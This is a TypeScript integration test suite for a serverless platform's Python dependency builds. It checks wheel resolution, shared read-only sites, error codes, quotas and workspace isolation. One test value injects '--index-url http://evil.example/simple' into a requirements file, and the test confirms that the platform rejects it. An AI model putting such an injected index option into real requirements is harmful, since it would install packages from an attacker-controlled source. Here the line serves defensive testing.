/**
 * Per-function dependencies (issue 10) through the API and the gateway, with real builds in the
 * sandboxed builder against a local directory of wheels made here (no network): a declared
 * dependency imported by a function, one shared site for the same resolution, bad requirements
 * failing with their codes while the active version keeps serving, and the site read-only in
 * the function's box and invisible to other functions.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { writeWheel } from '../helpers/wheels.js';
import { createFunction, deploy, depsSettled as settled, errorOf, filesOf, fnName, py, sleep, upload, usePlatform } from './platform-harness.js';

const wheels = mkdtempSync(join(tmpdir(), 'fp-wheels-'));
after(() => rmSync(wheels, { recursive: true, force: true }));
writeWheel(wheels, { name: 'alpha', version: '1.0', modules: { 'alpha/__init__.py': 'from beta import NAME as BETA\nVALUE = "alpha-1.0"\n' }, requires: ['beta>=1'] });
writeWheel(wheels, { name: 'beta', version: '1.2', modules: { 'beta.py': 'NAME = "beta-1.2"\n' } });
writeWheel(wheels, { name: 'beta', version: '0.9', modules: { 'beta.py': 'NAME = "beta-0.9"\n' } });
writeWheel(wheels, { name: 'medium', version: '1.0', modules: { 'medium.py': `DATA = "${'m'.repeat(300_000)}"\n` } });
writeWheel(wheels, { name: 'gamma', version: '1.0', modules: { 'gamma.py': 'NAME = "gamma-1.0"\n' } });
writeWheel(wheels, { name: 'bulky', version: '1.0', modules: { 'bulky.py': `DATA = "${'x'.repeat(1_200_000)}"\n` } });

// depsKeepMs 0: a site no version uses goes at the next look (the default keeps it an hour).
const h = usePlatform({ poolSize: 1, depsIndexUrl: 'none', depsFindLinks: wheels, depsMaxBytes: 1024 * 1024, depsKeepMs: 0 });

async function invoke(name: string): Promise<{ status: number; body: any }> { // eslint-disable-line @typescript-eslint/no-explicit-any -- JSON
  const res = await fetch(`${h.url}/fn/${name}/`);
  const text = await res.text();
  return { status: res.status, body: text === '' ? null : JSON.parse(text) };
}

const USES_ALPHA = {
  'requirements.txt': 'alpha  # pulls beta\n',
  'main.py': py(
    'import os, sys, alpha, beta',
    'def handler(event, context):',
    '    site = os.path.dirname(os.path.dirname(alpha.__file__))',
    '    try:',
    '        open(os.path.join(site, "planted.py"), "w").close()',
    '        writable = True',
    '    except OSError:',
    '        writable = False',
    '    return {"alpha": alpha.VALUE, "beta": alpha.BETA, "file": alpha.__file__, "writable": writable,',
    '            "site": site, "fp": os.listdir("/.fp") if os.path.isdir("/.fp") else [], "order": [p for p in sys.path if p in (site, "/code") or p.endswith("site-packages")]}',
  ),
};

describe('dependencies', () => {
  it('builds the declared dependencies once, and the function imports them through the gateway', async () => {
    const name = fnName('deps');
    await createFunction(h.api, name);
    const res = await h.api.call('POST', `/functions/${name}/versions`, { files: filesOf(USES_ALPHA) });
    assert.equal(res.status, 201);
    assert.equal(res.body.version.deps.state, 'building');
    // Not deployable until built: refused with a stable code, nothing switches.
    const early = await h.api.call('POST', `/functions/${name}/deploy`, {});
    assert.equal(early.status, 409);
    assert.equal(errorOf(early).code, 'DEPS_NOT_READY');

    const deps = await settled(h.api, name, 1);
    assert.equal(deps.state, 'ready', JSON.stringify(deps));
    assert.deepEqual(deps.packages, [{ name: 'alpha', version: '1.0', modules: ['alpha'] }, { name: 'beta', version: '1.2', modules: ['beta'] }]);
    assert.match(deps.lock, /^[0-9a-f]{64}$/);
    // Content-addressed by the lock, read-only, bytecode compiled ahead.
    const site = join(h.stateDir, 'deps', deps.lock, 'site');
    assert.equal(statSync(site).mode & 0o777, 0o555);
    assert.equal(statSync(join(site, 'beta.py')).mode & 0o777, 0o444);
    assert.ok(readdirSync(join(site, 'alpha', '__pycache__')).some((f) => f.endsWith('.pyc')));

    await deploy(h.api, name);
    const answer = await invoke(name);
    assert.equal(answer.status, 200, JSON.stringify(answer.body));
    assert.equal(answer.body.alpha, 'alpha-1.0');
    assert.equal(answer.body.beta, 'beta-1.2');
    // Bound at /deps, read-only, nothing of /.fp left; after /code, before the runtime's site-packages.
    assert.equal(answer.body.file, '/deps/alpha/__init__.py');
    assert.equal(answer.body.writable, false);
    assert.deepEqual(answer.body.fp, []);
    assert.equal(answer.body.order[0], '/code');
    assert.equal(answer.body.order[1], '/deps');
    assert.match(answer.body.order[2], /site-packages$/);
  });

  it('shares one site between functions (and inputs) that resolve the same way', async () => {
    const one = fnName('share');
    const two = fnName('share');
    for (const name of [one, two]) await createFunction(h.api, name);
    await upload(h.api, one, USES_ALPHA);
    // Written differently, resolved the same: same lock, so the same directory (nothing installed twice).
    await upload(h.api, two, { ...USES_ALPHA, 'requirements.txt': '# pinned\nalpha==1.0\nbeta>=1.1\n' });
    const [a, b] = [await settled(h.api, one, 1), await settled(h.api, two, 1)];
    assert.equal(a.state, 'ready');
    assert.equal(b.state, 'ready');
    assert.notEqual(a.key, b.key);
    assert.equal(a.lock, b.lock);
    const sites = readdirSync(join(h.stateDir, 'deps')).filter((d) => !d.startsWith('.'));
    assert.equal(sites.filter((d) => d === a.lock).length, 1);
    for (const name of [one, two]) await deploy(h.api, name);
    for (const name of [one, two]) assert.equal((await invoke(name)).body.alpha, 'alpha-1.0');
  });

  it('a build that finds its resolution installed already reports that site\'s size, not 0 B', async () => {
    const first = fnName('size');
    const again = fnName('size');
    for (const name of [first, again]) await createFunction(h.api, name);
    await upload(h.api, first, USES_ALPHA);
    const a = await settled(h.api, first, 1);
    assert.equal(a.state, 'ready');
    assert.ok(a.bytes > 0, JSON.stringify(a));
    // Written otherwise, resolved the same, after the first site is published: nothing is installed.
    await upload(h.api, again, { ...USES_ALPHA, 'requirements.txt': 'alpha>=1.0\n' });
    const b = await settled(h.api, again, 1);
    assert.equal(b.state, 'ready');
    assert.equal(b.lock, a.lock);
    assert.equal(b.bytes, a.bytes, 'the shared site\'s size (deploy printed "2 installed (0 B)")');
  });

  it('fails a bad requirement with its code; the active version keeps serving', async () => {
    const name = fnName('bad');
    await createFunction(h.api, name);
    await upload(h.api, name, USES_ALPHA);
    await settled(h.api, name, 1);
    await deploy(h.api, name, 1);
    assert.equal((await invoke(name)).body.alpha, 'alpha-1.0');

    // Refused at upload, no version created: an option line.
    const option = await h.api.call('POST', `/functions/${name}/versions`, { files: filesOf({ ...USES_ALPHA, 'requirements.txt': 'alpha\n--index-url http://evil.example/simple\n' }) });
    assert.equal(option.status, 400);
    assert.equal(errorOf(option).code, 'DEPS_REQUIREMENT_INVALID');
    assert.equal(errorOf(option)['line'], 2);

    const cases: [string, string, number][] = [
      ['gamma-unknown\n', 'DEPS_NOT_FOUND', 422],
      ['alpha\nbeta==0.9\n', 'DEPS_CONFLICT', 422],
      ['bulky\n', 'DEPS_TOO_LARGE', 413],
      ['msgpack>=99\n', 'DEPS_CONFLICT', 422], // the runtime's own pin wins: never shadowed
    ];
    for (const [requirements, code, status] of cases) {
      const v = await upload(h.api, name, { ...USES_ALPHA, 'requirements.txt': requirements });
      const deps = await settled(h.api, name, v);
      assert.equal(deps.state, 'failed', requirements);
      assert.equal(deps.error.code, code, `${requirements}: ${deps.error.message}`);
      const log = await h.api.call('GET', `/functions/${name}/versions/${v}/deps`);
      assert.ok(log.body.deps.log.length > 0, 'the build log is kept');
      // The failed build is kept with the version before any deploy (ADR 0252): it read as any other.
      const kept = async (): Promise<{ ok: boolean; code: string } | null> => (await h.api.call('GET', `/functions/${name}/versions/${v}`)).body.version.startCheck;
      for (let i = 0; i < 100 && (await kept()) === null; i++) await sleep(20);
      assert.deepEqual([(await kept())?.ok, (await kept())?.code], [false, code], requirements);
      const refused = await h.api.call('POST', `/functions/${name}/deploy`, { version: v });
      assert.equal(refused.status, status);
      assert.equal(errorOf(refused).code, code);
      assert.ok(String(errorOf(refused)['message']).length > 0);
      const still = await invoke(name);
      assert.equal(still.status, 200);
      assert.equal(still.body.alpha, 'alpha-1.0');
    }
    const fn = await h.api.call('GET', `/functions/${name}`);
    assert.equal(fn.body.function.activeVersion, 1);
  });

  it('keeps the site invisible to other functions', async () => {
    const name = fnName('nodeps');
    await createFunction(h.api, name);
    await upload(h.api, name, {
      'main.py': py(
        'import os, importlib.util',
        'def handler(event, context):',
        '    return {"deps": os.listdir("/deps"), "alpha": importlib.util.find_spec("alpha") is not None,',
        `            "state": os.path.exists(${JSON.stringify(join(h.stateDir, 'deps'))}), "fp": os.listdir("/.fp") if os.path.isdir("/.fp") else []}`,
      ),
    });
    const version = await h.api.call('GET', `/functions/${name}/versions/1`);
    assert.equal(version.body.version.deps, null);
    await deploy(h.api, name);
    const answer = await invoke(name);
    assert.deepEqual(answer.body, { deps: [], alpha: false, state: false, fp: [] });
  });

  it('removes a site once no version uses it: after its last function is deleted, not before', async () => {
    const [keep, gone, other] = [fnName('keep'), fnName('gone'), fnName('other')];
    const usesBeta = (pin: string) => ({
      'requirements.txt': `beta==${pin}\n`,
      'main.py': py('import beta', 'def handler(event, context):', '    return {"beta": beta.NAME}'),
    });
    for (const name of [keep, gone, other]) await createFunction(h.api, name);
    await upload(h.api, keep, usesBeta('1.2'));
    await upload(h.api, gone, usesBeta('1.2'));
    await upload(h.api, other, usesBeta('0.9'));
    const [shared, own] = [await settled(h.api, keep, 1), await settled(h.api, other, 1)];
    assert.equal((await settled(h.api, gone, 1)).lock, shared.lock);
    assert.notEqual(shared.lock, own.lock);
    const depsDir = join(h.stateDir, 'deps');
    const has = (entry: string): boolean => readdirSync(depsDir).includes(entry);
    const recorded = (key: string): boolean => readdirSync(join(depsDir, '.inputs')).includes(`${key}.json`);
    const until = async (what: string, done: () => boolean): Promise<void> => {
      const start = Date.now();
      while (!done()) {
        assert.ok(Date.now() - start < 20_000, `${what} within 20 s`);
        await sleep(100);
      }
    };
    assert.ok(has(own.lock) && has(shared.lock));

    for (const name of [gone, other]) assert.equal((await h.api.call('DELETE', `/functions/${name}`)).status, 204);
    await until("the deleted function's own site removed", () => !has(own.lock));
    assert.ok(!recorded(own.key), 'its build record too');
    assert.ok(has(shared.lock), 'a site another function uses stays');
    assert.ok(recorded(shared.key));
    await deploy(h.api, keep);
    assert.deepEqual((await invoke(keep)).body, { beta: 'beta-1.2' });

    assert.equal((await h.api.call('DELETE', `/functions/${keep}`)).status, 204);
    await until('the shared site removed with its last function', () => !has(shared.lock));
    assert.ok(has(readdirSync(depsDir).find((d) => /^[0-9a-f]{64}$/.test(d)) ?? ''), "other tests' sites stay");
  });

  it("counts a workspace's dependency sites in its codeBytes quota: a new build past it is 403, the same site again is not", async () => {
    const ws = `depq-${Date.now().toString(36)}`;
    assert.equal((await h.api.call('POST', '/workspaces', { name: ws, quotas: { codeBytes: 500_000 } })).status, 201);
    const inWs = { 'fp-workspace': ws };
    const name = 'quota';
    assert.equal((await h.api.call('POST', '/functions', { name }, inWs)).status, 201);
    const version = (requirements: string) => h.api.call('POST', `/functions/${name}/versions`, {
      files: filesOf({ 'requirements.txt': requirements, 'main.py': py('def handler(event, context):', '    return {}') }),
    }, inWs);
    const first = await version('medium\n');
    assert.equal(first.status, 201, JSON.stringify(first.body));
    const start = Date.now();
    let deps;
    do {
      await sleep(100);
      deps = (await h.api.call('GET', `/functions/${name}/versions/1/deps`, undefined, inWs)).body.deps;
      assert.ok(Date.now() - start < 60_000);
    } while (deps.state === 'building');
    assert.equal(deps.state, 'ready', JSON.stringify(deps));
    assert.ok(deps.bytes > 500_000, `the site (${deps.bytes} B) alone fills the quota`);

    const refused = await version('gamma\n');
    assert.equal(refused.status, 403, JSON.stringify(refused.body));
    assert.equal(errorOf(refused).code, 'QUOTA_EXCEEDED');
    assert.equal(errorOf(refused)['quota'], 'codeBytes');
    assert.equal(errorOf(refused)['depsBytes'], deps.bytes);
    assert.match(String(errorOf(refused)['message']), /dependency sites/);
    // The same requirements.txt again (new code, say) builds nothing: allowed. (Written otherwise it
    // is a new build until resolved: its lock is not known before.)
    assert.equal((await version('medium\n')).status, 201);
    // The default workspace has no quota: the same new dependencies are built there.
    const free = fnName('free');
    await createFunction(h.api, free);
    await upload(h.api, free, { 'requirements.txt': 'gamma\n', 'main.py': py('import gamma', 'def handler(event, context):', '    return {"gamma": gamma.NAME}') });
    assert.equal((await settled(h.api, free, 1)).state, 'ready');
  });

  it("builds per workspace: another workspace's same requirements get their own record and log, and the same site", async () => {
    const mine = fnName('mine');
    await createFunction(h.api, mine);
    await upload(h.api, mine, USES_ALPHA);
    const first = await settled(h.api, mine, 1);
    assert.equal(first.state, 'ready');
    const ws = `depw-${Date.now().toString(36)}`;
    assert.equal((await h.api.call('POST', '/workspaces', { name: ws })).status, 201);
    const inWs = { 'fp-workspace': ws };
    assert.equal((await h.api.call('POST', '/functions', { name: 'theirs' }, inWs)).status, 201);
    const res = await h.api.call('POST', '/functions/theirs/versions', { files: filesOf(USES_ALPHA) }, inWs);
    assert.equal(res.status, 201, JSON.stringify(res.body));
    assert.equal(res.body.version.deps.state, 'building', 'not ready at once with the other workspace\'s build');
    assert.notEqual(res.body.version.deps.key, first.key);
    const start = Date.now();
    let theirs;
    do {
      await sleep(100);
      theirs = (await h.api.call('GET', '/functions/theirs/versions/1/deps', undefined, inWs)).body.deps;
      assert.ok(Date.now() - start < 60_000);
    } while (theirs.state === 'building');
    assert.equal(theirs.state, 'ready');
    assert.equal(theirs.lock, first.lock, 'the same site');
    assert.ok(theirs.startedAt > first.finishedAt, 'its own build, with its own times');
  });
});
